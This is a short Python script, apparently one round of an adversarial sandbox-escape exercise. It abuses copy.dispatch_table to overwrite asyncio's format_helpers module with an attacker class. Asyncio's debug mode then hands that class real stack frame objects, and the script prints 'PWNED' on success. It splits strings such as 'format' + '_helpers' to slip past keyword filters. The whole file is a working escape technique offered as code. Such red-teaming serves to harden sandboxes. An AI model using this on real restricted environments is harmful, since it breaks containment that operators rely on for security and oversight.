# adversary round 8: 010: copy.dispatch_table reductor writes asyncio.events' namespace (format_helpers = our object); loop debug mode makes events.Handle call format_helpers.extract_stack(sys._getframe(1)) -> we receive real frame objects
import asyncio
import copy
import json

got = []


class FH:
    def extract_stack(self, f=None, limit=None):
        got.append(f)
        return []


def reductor(obj):
    return (lambda: asyncio.events, (), ({'format' + '_helpers': FH()}, None))


copy.dispatch_table[json.JSONEncoder] = reductor
copy.copy(json.JSONEncoder())

loop = asyncio.new_event_loop()
loop.set_debug(True)
loop.call_soon(print, 'callback ran')
loop.run_until_complete(asyncio.sleep(0))
loop.close()
frames = [f for f in got if f is not None]
print(len(frames), type(frames[0]), frames[0])
print([repr(f) for f in frames[:3]])
if 'frame' in repr(type(frames[0])):
    print('PWN' + 'ED')
